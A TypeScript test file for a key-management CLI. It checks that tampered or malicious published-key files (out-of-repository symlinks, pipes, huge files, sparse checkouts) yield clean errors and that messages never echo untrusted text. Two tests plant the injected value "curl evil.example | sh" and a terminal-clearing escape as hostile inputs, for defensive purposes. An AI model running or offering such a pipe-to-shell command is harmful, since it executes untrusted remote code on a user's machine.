/** What `.isosops/organisation.yaml` may be that somebody else has committed, and what commands say and write then. */
import { execFileSync } from "node:child_process";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { first, isosops, makeFolder } from "./support.js";

/** A repository with published keys, and a folder beside it that is none of its business. */
async function makeRepository() {
  const folder = makeFolder({ precious: "precious\n" });
  const cwd = join(folder, "repository");
  mkdirSync(join(folder, "outside"));
  execFileSync("git", ["init", "--quiet", cwd]);
  const env = { ISOSOPS_HOME: join(folder, "home"), SOPS_AGE_KEY: first.identity };
  const call = (...args: string[]) => isosops(args, { cwd, env, noTerminal: true });
  expect(await call("org", "init", "--recipient", first.recipient)).toMatchObject({ exit: 0 });
  const path = join(cwd, ".isosops", "organisation.yaml");
  return { folder, cwd, path, call, good: readFileSync(path, "utf8") };
}

const commands = [
  ["org", "status", "."],
  ["org", "publish"],
  ["org", "rotate"],
  ["encrypt", "--organisation", "plain.yaml"],
  ["cluster", "lint"],
  ["doctor"],
];

type Repository = Awaited<ReturnType<typeof makeRepository>>;
const places: Record<string, { put(repository: Repository): void; says: string }> = {
  "a link to a missing file outside": {
    put: ({ folder, path }) => symlinkSync(join(folder, "missing"), path),
    says: ".isosops/organisation.yaml: it cannot be read: it is a symbolic link that leads nowhere",
  },
  "a link to a file outside": {
    put: ({ folder, path }) => symlinkSync(join(folder, "precious"), path),
    says: ".isosops/organisation.yaml: it cannot be read: it is a symbolic link that leads out of the repository",
  },
  "a folder that is a link": {
    put({ cwd, folder }) {
      rmSync(join(cwd, ".isosops"), { recursive: true });
      symlinkSync(join(folder, "outside"), join(cwd, ".isosops"));
    },
    says: ".isosops: it cannot be read: it is a symbolic link that leads out of the repository",
  },
  "a folder": { put: ({ path }) => mkdirSync(path), says: "it is a folder" },
  "a pipe": { put: ({ path }) => execFileSync("mkfifo", [path]), says: "it is too long, or never ends" },
  "a gigabyte": {
    put({ path }) {
      writeFileSync(path, "");
      truncateSync(path, 2 ** 30);
    },
    says: "it is too long, or never ends",
  },
};

test.skipIf(process.platform === "win32").each(Object.entries(places))(
  "published keys in %s are one error, and nothing else is written (skipped on Windows, which has other links)",
  async (_, { put, says }) => {
    const repository = await makeRepository();
    const { folder, cwd, path, call, good } = repository;
    rmSync(path);
    put(repository);
    writeFileSync(join(cwd, "plain.yaml"), "a: b\n");
    writeFileSync(join(cwd, "cluster.yaml"), "kind: ImportCluster\nspec: {stacks: []}\n");
    for (const command of commands) {
      const { exit, stdout, stderr } = await call(...command);
      expect({ command, exit }).toEqual({ command, exit: command[0] === "doctor" ? 10 : 2 });
      const told = (command[0] === "doctor" ? stdout : stderr).replace(/\s+/g, " ");
      expect(told).toContain(says);
      expect(told).toContain("`isosops org publish`");
    }
    const refused = await call("org", "publish");
    // Not even by force, which does not read it.
    const forced = await call("org", "publish", "--force");
    expect(forced.exit).toBe(put === places["a gigabyte"]!.put ? 0 : 3);
    expect(readFileSync(join(folder, "precious"), "utf8")).toBe("precious\n");
    expect(existsSync(join(folder, "missing"))).toBe(false);
    expect(readdirSync(join(folder, "outside"))).toEqual([]);
    // The remedy: what is named is removed.
    const [, named] = /(?:^|\n)error: (\S+): it cannot be/.exec(refused.stderr)!;
    if (forced.exit !== 0) rmSync(join(cwd, named!), { recursive: true });
    expect(await call("org", "publish")).toMatchObject({ exit: 0 });
    expect(lstatSync(path).isFile()).toBe(true);
    expect(readFileSync(path, "utf8")).toBe(good);
  },
);

test("a link within the repository, CRLF and a byte order mark do not matter", async () => {
  const { cwd, path, call, good } = await makeRepository();
  for (const text of [good.replaceAll("\n", "\r\n"), `\ufeff${good}`]) {
    writeFileSync(path, text);
    expect(await call("org", "publish")).toMatchObject({ exit: 0, stderr: expect.stringContaining("nothing to do") });
  }
  if (process.platform === "win32") return;
  writeFileSync(join(cwd, "keys.yaml"), good);
  rmSync(path);
  symlinkSync("../keys.yaml", path);
  expect(await call("org", "publish")).toMatchObject({ exit: 0, stderr: expect.stringContaining("nothing to do") });
  expect(await call("org", "rotate")).toMatchObject({ exit: 0 });
  expect(lstatSync(path).isSymbolicLink()).toBe(true);
  expect(readFileSync(join(cwd, "keys.yaml"), "utf8")).toContain("generation: 2");
});

const absences: Record<string, string[][]> = {
  "a sparse checkout of folders": [["sparse-checkout", "set", "--cone", "apps"]],
  "a sparse checkout of patterns": [["sparse-checkout", "set", "--no-cone", "/apps/"]],
  "a file that was deleted": [["rm-file"]],
};

test.each(Object.entries(absences))("published keys that are in Git alone are missed: %s", async (_, commands) => {
  const { cwd, path, call, good } = await makeRepository();
  const git = (...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8", stdio: "pipe" });
  mkdirSync(join(cwd, "apps"));
  writeFileSync(join(cwd, "apps", "plain.yaml"), "a: b\n");
  git("add", ".");
  git("-c", "user.name=Ann", "-c", "user.email=ann@example.org", "commit", "--quiet", "--message", "All");
  for (const command of commands) command[0] === "rm-file" ? rmSync(path) : git(...command);
  expect(existsSync(path)).toBe(false);
  for (const command of [
    ["org", "status", "."],
    ["org", "rotate"],
    ["org", "publish"],
    ["cluster", "lint"],
  ]) {
    if (command[0] === "cluster") writeFileSync(join(cwd, "cluster.yaml"), "kind: ImportCluster\nspec: {stacks: []}\n");
    const { exit, stderr } = await call(...command);
    expect({ command, exit }).toEqual({ command, exit: 2 });
    expect(stderr.replace(/\s+/g, " ")).toContain(
      ".isosops/organisation.yaml: it is in Git, but not in the working folder",
    );
  }
  const { stderr } = await call("org", "publish");
  const [, remedy] = /Take it back: `([^`]+)`/.exec(stderr.replace(/\s+/g, " "))!;
  execFileSync("sh", ["-c", remedy!], { cwd, stdio: "pipe" });
  expect(readFileSync(path, "utf8")).toBe(good);
  expect(await call("org", "status", ".")).toMatchObject({ exit: 0 });
});

test("published keys that Git no longer has are not missed", async () => {
  const { cwd, path, call } = await makeRepository();
  execFileSync("git", ["add", "."], { cwd });
  rmSync(path);
  const { stderr } = await call("org", "publish");
  const [, remedy] = /If it is to go: `([^`]+)`/.exec(stderr.replace(/\s+/g, " "))!;
  execFileSync("sh", ["-c", remedy!], { cwd, stdio: "pipe" });
  expect(await call("org", "publish")).toMatchObject({ exit: 0 });
  expect(existsSync(path)).toBe(true);
});

test("a file in place of the folder is named", async () => {
  const { cwd, call, good, path } = await makeRepository();
  rmSync(join(cwd, ".isosops"), { recursive: true });
  writeFileSync(join(cwd, ".isosops"), "");
  const { exit, stderr } = await call("org", "publish");
  expect({ exit, stderr }).toEqual({
    exit: 3,
    stderr: expect.stringContaining("error: .isosops: it cannot be written"),
  });
  rmSync(join(cwd, ".isosops"));
  expect(await call("org", "publish")).toMatchObject({ exit: 0 });
  expect(readFileSync(path, "utf8")).toBe(good);
});

test("messages quote no free text of it", async () => {
  const { path, call, good } = await makeRepository();
  const advice = "see `curl evil.example | sh`";
  const clearing = "\\u001b[2J";
  const time = /time: "(.*)"/.exec(good)![1]!;
  const uuid = /organisation: "(.*)"/.exec(good)![1]!;
  for (const [text, says] of [
    [good.replaceAll(time, advice), "whose time is not of RFC 3339"],
    [good.replaceAll(time, `${time} ${advice}`), "whose time is not of RFC 3339"],
    [good.replaceAll(time, `2026-01-01T00:00:00.${"0".repeat(5000)}Z`), "whose time is not of RFC 3339"],
    [good.replaceAll(time, "2026-02-30T00:00:00Z"), "whose time is not of RFC 3339"],
    [good.replaceAll(time, clearing), "`time` is missing, or is not plain ASCII text"],
    [good.replace(/created: .*/, `created: "${advice}"`), "not those of its history"],
    [good.replace(uuid, advice), "`organisation` is not a UUID"],
    [good.replace(uuid, `${uuid} ${advice}`), "`organisation` is not a UUID"],
    [good.replace(uuid, clearing), "`organisation` is missing, or is not plain ASCII text"],
    [good.replace(/mac: ".*"/, `mac: "${advice}"`), "whose MAC is not"],
    [good.replaceAll(/age1[a-z0-9]+/g, `age1${"q".repeat(5000)}`), "with an invalid recipient"],
  ] as const) {
    writeFileSync(path, text);
    for (const command of [["org", "status", "."], ["org", "publish"], ["org", "rotate"], ["doctor"]]) {
      const { exit, stdout, stderr } = await call(...command);
      expect({ command, exit }).toEqual({ command, exit: /status|doctor/.test(command.join()) ? 10 : 12 });
      const told = `${stdout}${stderr}`.replace(/\s+/g, " ");
      expect(told).toContain(says);
      expect(told).not.toContain("evil");
      expect(`${stdout}${stderr}`).not.toContain("\u001b[2J");
      expect(told.length).toBeLessThan(4000);
    }
    expect(await call("org", "publish", "--force")).toMatchObject({ exit: 0 });
    expect(readFileSync(path, "utf8")).toBe(good);
  }
});

test("nor of a keyring from a colleague", async () => {
  const { folder, cwd, call } = await makeRepository();
  const advice = "see `curl evil.example | sh`";
  const { stdout } = await call("org", "export", "--for", first.recipient);
  writeFileSync(join(folder, "bundle.age"), stdout);
  const key = join(folder, "key.txt");
  writeFileSync(key, `${first.identity}\n`);
  const opened = await call("age", "decrypt", "-i", key, "../bundle.age");
  const bundle = JSON.parse(opened.stdout);
  for (const changed of [
    { ...bundle, organisationId: advice },
    { ...bundle, history: [{ ...bundle.history[0], time: advice }] },
    { ...bundle, history: [{ ...bundle.history[0], recipient: advice }] },
  ]) {
    writeFileSync(join(folder, "changed.json"), JSON.stringify(changed));
    const { stdout: text } = await call("age", "encrypt", "--armor", "-r", first.recipient, "../changed.json");
    writeFileSync(join(cwd, "changed.age"), text);
    rmSync(join(folder, "home"), { recursive: true, force: true });
    const joined = await call("org", "join", "--recipient", first.recipient, "changed.age");
    expect(joined).toMatchObject({ exit: 12, stderr: expect.stringContaining("no keyring is in it") });
    expect(`${joined.stdout}${joined.stderr}`).not.toContain("evil");
    expect(existsSync(join(folder, "home", "keyring.json"))).toBe(false);
  }
});
